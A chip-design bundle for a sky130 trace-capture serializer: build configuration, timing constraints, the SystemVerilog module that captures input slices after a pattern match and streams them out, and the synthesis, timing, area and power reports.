File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trace_trigger_serializer
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trace_trigger_serializer.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_CLOCK_PERIOD_IN_PS = 3000
export CAP_MARGIN = 25
export CORE_ASPECT_RATIO = 1.75
export CORE_MARGIN = 5
export CORE_UTILIZATION = 25
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8
export CTS_CLUSTER_DIAMETER = 80
export DETAILED_ROUTE_END_ITERATION = 10
export HOLD_SLACK_MARGIN = 0.15
export PLACE_DENSITY = 0.5
export SETUP_SLACK_MARGIN = 0.1
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 3 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0.3 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.3 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
File: src/rtl/trace_trigger_serializer.sv
// trace_trigger_serializer: pattern-triggered trace capture unit.
// Waits for a masked match word on the observation bus, captures a selectable
// slice of the next DEPTH words, then streams the captured buffer LSB-first,
// OUT_W bits per beat, over a valid/ready interface.
module trace_trigger_serializer #(
  parameter int unsigned        DATA_W  = 64,
  parameter int unsigned        MATCH_W = 48,
  parameter int unsigned        SEL_W   = 3,
  parameter int unsigned        SLICE_W = 8,
  parameter int unsigned        DEPTH   = 4,
  parameter int unsigned        OUT_W   = 2,
  parameter logic [MATCH_W-1:0] PATTERN = 48'h0000_5A5A_C3C3,
  parameter logic [MATCH_W-1:0] MASK    = '1
) (
  input  logic              clk,
  input  logic              rst_all,
  input  logic [DATA_W-1:0] data,
  input  logic              arm,
  input  logic              rearm,
  input  logic              abort,
  input  logic              out_ready,
  output logic [OUT_W-1:0]  out_data,
  output logic              out_valid,
  output logic              armed,
  output logic              busy,
  output logic              done
);

  localparam int unsigned BUF_W  = DEPTH * SLICE_W;
  localparam int unsigned BEATS  = BUF_W / OUT_W;
  localparam int unsigned CAP_W  = (DEPTH > 1) ? $clog2(DEPTH) : 1;
  localparam int unsigned BEAT_W = (BEATS > 1) ? $clog2(BEATS) : 1;

  if (MATCH_W + SEL_W > DATA_W) begin : g_bad_sel_field
    $error("trace_trigger_serializer: MATCH_W+SEL_W must not exceed DATA_W");
  end
  if ((SLICE_W << SEL_W) > DATA_W) begin : g_bad_slice_range
    $error("trace_trigger_serializer: SLICE_W*2**SEL_W must not exceed DATA_W");
  end
  if ((BUF_W % OUT_W) != 0) begin : g_bad_beat_width
    $error("trace_trigger_serializer: DEPTH*SLICE_W must be a multiple of OUT_W");
  end

  typedef enum logic [2:0] {
    S_IDLE,
    S_ARMED,
    S_CAPTURE,
    S_SHIFT,
    S_DONE
  } state_t;

  state_t             state;
  state_t             state_nxt;
  logic [BUF_W-1:0]   buf_q;
  logic [CAP_W-1:0]   cap_cnt;
  logic [BEAT_W-1:0]  beat_cnt;
  logic [SEL_W-1:0]   sel_q;
  logic               match;
  logic               last_cap;
  logic               last_beat;
  logic               accept;

  // The current beat is always the low end of the shifting buffer.
  assign out_data = buf_q[OUT_W-1:0];

  // Trigger qualification and end-of-phase decodes.
  always_comb begin
    match     = (data[MATCH_W-1:0] & MASK) == (PATTERN & MASK);
    last_cap  = (cap_cnt == CAP_W'(DEPTH - 1));
    last_beat = (beat_cnt == BEAT_W'(BEATS - 1));
    accept    = out_valid && out_ready;
  end

  // Next-state selection; abort overrides every other transition.
  always_comb begin
    state_nxt = state;
    if (abort) begin
      state_nxt = S_IDLE;
    end else begin
      case (state)
        S_IDLE:    if (arm) state_nxt = S_ARMED;
        S_ARMED:   if (match) state_nxt = S_CAPTURE;
        S_CAPTURE: if (last_cap) state_nxt = S_SHIFT;
        S_SHIFT:   if (accept && last_beat) state_nxt = S_DONE;
        S_DONE:    state_nxt = rearm ? S_ARMED : S_IDLE;
        default:   state_nxt = S_IDLE;
      endcase
    end
  end

  // State, datapath and status registers; status is decoded from the next state
  // so every output comes straight from a flop.
  always_ff @(posedge clk or posedge rst_all) begin
    if (rst_all) begin
      state     <= S_IDLE;
      buf_q     <= '0;
      cap_cnt   <= '0;
      beat_cnt  <= '0;
      sel_q     <= '0;
      out_valid <= 1'b0;
      armed     <= 1'b0;
      busy      <= 1'b0;
      done      <= 1'b0;
    end else begin
      state     <= state_nxt;
      out_valid <= (state_nxt == S_SHIFT);
      armed     <= (state_nxt == S_ARMED);
      busy      <= (state_nxt == S_CAPTURE) || (state_nxt == S_SHIFT);
      done      <= (state_nxt == S_DONE);
      if (!abort) begin
        case (state)
          S_ARMED: begin
            if (match) begin
              sel_q   <= data[MATCH_W +: SEL_W];
              cap_cnt <= '0;
            end
          end
          S_CAPTURE: begin
            buf_q[32'(cap_cnt) * SLICE_W +: SLICE_W] <= data[32'(sel_q) * SLICE_W +: SLICE_W];
            if (last_cap) begin
              beat_cnt <= '0;
            end else begin
              cap_cnt <= cap_cnt + CAP_W'(1);
            end
          end
          S_SHIFT: begin
            if (accept) begin
              buf_q <= buf_q >> OUT_W;
              if (!last_beat) beat_cnt <= beat_cnt + BEAT_W'(1);
            end
          end
          default: ;
        endcase
      end
    end
  end

endmodule

Word level (Yosys, flattened, before mapping)
Index checks and enable logic that the tools add are counted.
{ "totals": {"register_bits": 48, "word_cells": 59} }
{ "classes": {"addsub": 3, "eq_ne": 16, "shifts": 3, "muxes": 17, "n_bitwise": 1, "reduce_logical": 10} }
{ "op_table": {"columns": ["cell", "count"], "rows": [
  ["$pmux W32 S2", 1],
  ["$shiftx A64 B7 Y8", 1],
  ["$eq A48 B31 Y1 const B", 1],
  ["$neg A5 Y34", 1],
  ["$shift A8 B34 Y32 const A", 1],
  ["$shiftx A8 B34 Y32", 1],
  ["$bwmux W32", 1],
  ["$mux W32", 1],
  ["$mux W3", 5],
  ["$pmux W3 S5", 1],
  ["$eq A3 B2 Y1 const B", 4],
  ["$mux W4", 3],
  ["$ne A2 B2 Y1 const B", 5],
  ["$pmux W4 S2", 1],
  ["$eq A3 B1 Y1 const B", 2],
  ["$eq A3 B3 Y1 const B", 2],
  ["$reduce_and A3 Y1", 2],
  ["$reduce_and A5 Y1", 1],
  ["$add A4 B1 Y4 const B", 1],
  ["$eq A4 B4 Y1 const B", 1],
  ["$mux W2", 2],
  ["$pmux W2 S2", 1],
  ["$reduce_and A4 Y1", 1],
  ["$reduce_bool A2 Y1", 2],
  ["7 further kinds", 8]
]} }

Longest topological paths before layout
{ "depth": {"word_depth": 7, "depth_mapped": 7} }

Worst setup path after synthesis
OpenSTA, ideal clock, no wires.
{ "synth_path": {"path_kind": "reg-to-reg", "startpoint": "register cap_cnt[0]", "endpoint": "register buf_q[24]", "setup_ns": 0.124, "t_arrival_ns": 2.024, "t_required_ns": 2.676, "setup_slack_ns": 0.652, "path_stages_with_launch": 8, "n_path_buf": 2, "cell_sequence": "dfrtp_1 ha_1 or4b_1 buf_2 and3_1 buf_6 and3_4 a211o_1"} }
{ "synth_between": {"elab_chain_len": 4, "elab_cells_between_ends": 5} }
{ "synth_rtl": {"columns": ["element", "line", "rtl"], "rows": [
  ["start, declared", "55", "logic [CAP_W-1:0] cap_cnt;"],
  ["start signal, assigned", "123", "cap_cnt <= cap_cnt + CAP_W'(1);"],
  ["$neg A5 Y34 (*)", "119", "buf_q[32'(cap_cnt) * SLICE_W +: SLICE_W] <= data[32'(sel_q) * SLICE_W +: SLICE_W];"],
  ["$shiftx A8 B34 Y32 or $shift A8 B34 Y32 (tied branches)", "119", null],
  ["$bwmux W32 (*)", "119", null],
  ["$pmux W32 S2 (*)", "111", "case (state)"],
  ["end signal, assigned by index", "119", null],
  ["end signal, assigned", "128", "buf_q <= buf_q >> OUT_W;"],
  ["end, declared", "54", "logic [BUF_W-1:0] buf_q;"]
]} }
Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not.
A chain may end at the register's enable or synchronous reset.

Worst setup path after layout
{ "layout_path": {"startpoint": "register cap_cnt[0]", "endpoint": "register buf_q[29]"} }
Same word-level chain as after synthesis.

==> qor.tcl <==
set qor(run_status) {finished clean}
set qor(io_buffers) 75
set qor(start_kind) {flop}
set qor(setup.worst_path.class) {flop to flop}
set qor(synthesis.instances) 275
set qor(postRouteAntennaNets) 0
set qor(synth_top_flop_cell) {sky130_fd_sc_hd__dfrtp_1}
set qor(synthArstFlopShare_pct) 100
set qor(route.vias.total) 2520
set qor(hold_violations) 0
set qor(timing.critical_path.arrival_ns) 2.57
set qor(instances_no_fill) 486
set qor(yosys.cell_types.count) 44
set qor(tightest_pin_transition_ns) 0.715
set qor(setup.worst_path.end) {buf_q[29]}
set qor(clkLatencyLatePin_ns) 0.31
set qor(ys_ff_latch) 48
set qor(post_cts.repair.setup_buffers) 0
set qor(power_leakage_uw) 0.00163
set qor(fillCellCount) 1221
set qor(final_common_cell) {sky130_fd_sc_hd__clkdlybuf4s50_1}
set qor(timing.hold.worst.class) {flop to flop}
set qor(cts.path.max_buffers) 2
set qor(initial_core_util_pct) 25.4
set qor(syn_to_final_growth_pct) 33.7
set qor(htreeDepth) 2
set qor(clock_tree_from_tritoncts) {yes}
set qor(synth_warn) 0
set qor(post-place-ws_ns) 0.378
set qor(critical_path_peak_fanout) 10
set qor(via_count_of_the_first_global_routing_pass) 2662
set qor(post-dp-hpwl_microns) 6830
set qor(critical-path-top-delay-family) {simple AND/OR/NAND/NOR gates}
set qor(cp.depth) 5
set qor(antenna_violations_before_repair) 0
set qor(worst_ir_drop_vdd_v) 0.000138
set qor(worst_setup_path_end_kind) {flop}
set qor(total_global_routing_overflow) 0
set qor(drt_iter0_markers) 98
set qor(drc_errors) 0
set qor(fp.dieH_microns) 153
set qor(critical_path_required_ns) 3.00
set qor(final.setup.tns_ns) 0
set qor(r2r_slack_ns) 0.42
set qor(tritoncts.num_buffers) 5
set qor(worst_r2r_path_depth) 5
set qor(cp.buffers_inverters) 0
set qor(antennaDiodeCount) 0
set qor(cellPowerDensity_nw_per_um2) 310
set qor(route.final.wire_length_microns) 8510
set qor(finalCriticalPeriod_ns) 2.58
set qor(io_pins) 76
set qor(worst_path_largest_cell_delay_ns) 0.62
set qor(track_usage_pct) 12.3
set qor(min_period_over_period_pct) 85.9
set qor(cts_repair_resize_count) 0
set qor(tritoncts_num_sinks) 48
set qor(layout-drive-gt1-share_pct) 15.4
set qor(unrepaired_setup_endpoints_after_global_routing) {false}
set qor(mappedNetlistArea_sq_um) 2940
set qor(post_drt_via_cell_ratio) 5.19
set qor(final_nets) 426
set qor(critical_path.cell_chain) {ha_1 -> or4b_1 -> and3_1 -> and3_4 -> a211o_1}
set qor(clkSlewWorstSetupHoldPaths_ns) 0.08
set qor(rows) 52
set qor(critPathSlowestCell) {sky130_fd_sc_hd__or4b_1}
set qor(routedWlPerCell_microns) 17.5
set qor(root_buffer) {sky130_fd_sc_hd__clkbuf_8}
set qor(placeable_core_region_sq_um) 11600
set qor(synthesis.nets) 350
set qor(wire_length_of_the_first_global_routing_pass_microns) 13700
set qor(final_cell_area_sq_um) 3930
set qor(source_of_the_worst_register_to_register_timing_path) {cap_cnt[0]}
set qor(finalWeightedCongestion) 0.731
set qor(grt_start_max_net_pins) 35
set qor(finalWorstSetupSlack_ns) 0.422
set qor(fmax_mhz) 388
set qor(die_area_sq_um) 14100
set qor(dp_cells) 476
set qor(drt_pre_antenna_iters) 4
set qor(critPathLaunch) {cap_cnt[0]}
set qor(report.final.slew_viol_count) 0
set qor(layout_common_cells) {sky130_fd_sc_hd__clkdlybuf4s50_1 (69), sky130_fd_sc_hd__dfrtp_1 (48), sky130_fd_sc_hd__nand2_1 (39)}
set qor(relSlewSlack_pct) 52.3
set qor(r2r_end) {buf_q[29]}
set qor(die_width_microns) 91.9
set qor(cap_violations) 0
set qor(syn-mean-instance-area_sq_um) 10.7
set qor(synth-seq-area-share_pct) 40.9
set qor(postPlaceCellArea_sq_um) 3820
set qor(synth-edff-count) 0
set qor(setup_viol) 0
-- sequential cells by signal, indices dropped and copies added (netlist names) --
register and cells:
buf_q 32, beat_cnt 4, sel_q 3, state 3, cap_cnt 2, armed 1
busy 1, done 1, out_valid 1
-- worst reg2reg max path, stage by stage, from the launching register on --
cell and delay (ns):
sky130_fd_sc_hd__dfrtp_1 0.47, sky130_fd_sc_hd__ha_1 0.30, sky130_fd_sc_hd__or4b_1 0.62, sky130_fd_sc_hd__and3_1 0.38, sky130_fd_sc_hd__and3_4 0.25, sky130_fd_sc_hd__a211o_1 0.26
-- area by class of cell --
cell class	count	area (sq um)	area share, %
Clock buffer	5	68.8	1.75
Clock inverter	2	12.5	0.319
Inverter	6	22.5	0.573
Multi-Input combinational cell	203	1630	41.4
Sequential cell	48	1200	30.6
Tap cell	135	169	4.30
Timing Repair Buffer	87	828	21.1
-- per-stage QoR --
step,utilization [%],total power [uW],hold WS (ns)
floorplan,-,730,0.248
global placement,33.0,849,0.268
detailed placement,33.0,851,0.273
CTS,33.8,1240,0.296
global route,33.9,1270,0.320
finish,33.9,1220,0.291
-- routing by layer --
layer	vias to the layer above	GRT usage, %	wire length (microns)	part of all wire (%)
met1	1242	12.6	3060	36
met3	7	1.97	304	3.6
met2	64	24.4	5000	59
met4	0	4.25	134	1.6
met5	-	0	0	0
li1	1207	-	-	-
-- cell usage after synthesis, types with 3 or more instances --
cell type	number	area share (%)
sky130_fd_sc_hd__a21oi_1	11	1.9
sky130_fd_sc_hd__nand3_1	6	1.0
sky130_fd_sc_hd__buf_4	3	0.77
sky130_fd_sc_hd__clkbuf_1	11	1.4
sky130_fd_sc_hd__o21ai_0	15	2.6
sky130_fd_sc_hd__inv_1	6	0.77
sky130_fd_sc_hd__nand4_1	6	1.3
sky130_fd_sc_hd__mux2_2	3	1.1
sky130_fd_sc_hd__mux4_2	16	12
sky130_fd_sc_hd__and4_1	8	2.4
sky130_fd_sc_hd__ha_1	5	2.1
sky130_fd_sc_hd__and3_4	6	2.3
sky130_fd_sc_hd__mux2i_1	10	3.4
sky130_fd_sc_hd__nor2_1	14	1.8
sky130_fd_sc_hd__a211o_1	6	1.8
sky130_fd_sc_hd__o22ai_1	3	0.64
sky130_fd_sc_hd__o221ai_1	16	4.8
sky130_fd_sc_hd__nor4bb_1	4	1.4
sky130_fd_sc_hd__o211ai_1	3	0.77
sky130_fd_sc_hd__nor4b_1	6	1.8
sky130_fd_sc_hd__nor3b_1	3	0.77
sky130_fd_sc_hd__dfrtp_1	48	41
sky130_fd_sc_hd__nand2_1	39	5.0
-- power breakdown --
part / switching [uW] / internal [uW]
clock network: 224 / 158
logic: 72.8 / 111
registers: 2.86 / 649
total: 300 / 919
-- timing repair --
item	in CTS	in global routing
endpoints found under the setup margin	0	0
hold endpoints to repair	14	0
hold buffers	1	0
-- worst min path at each step --
stage               cells after the start        end      start  slack (ns)
floorplan                               2  buf_q[16]  buf_q[16]        0.25
global placement                        2  buf_q[12]  buf_q[12]        0.27
detailed placement                      2   buf_q[3]   buf_q[3]        0.27
CTS                                     2  buf_q[14]  buf_q[14]        0.30
global route                            1  buf_q[25]  buf_q[25]        0.32
finish                                  2  buf_q[15]  buf_q[15]        0.29
-- cells by family after synthesis --
kind of cell	after synthesis	share of synthesized area [%]
AOI/OAI and AO/OA	60	14.1
adders and majority gates	5	2.13
buffers and inverters	24	3.79
DFF	48	40.9
muxes	29	16.8
and+or+nand+nor	109	22.3
Power figures use the tool's default switching activity.
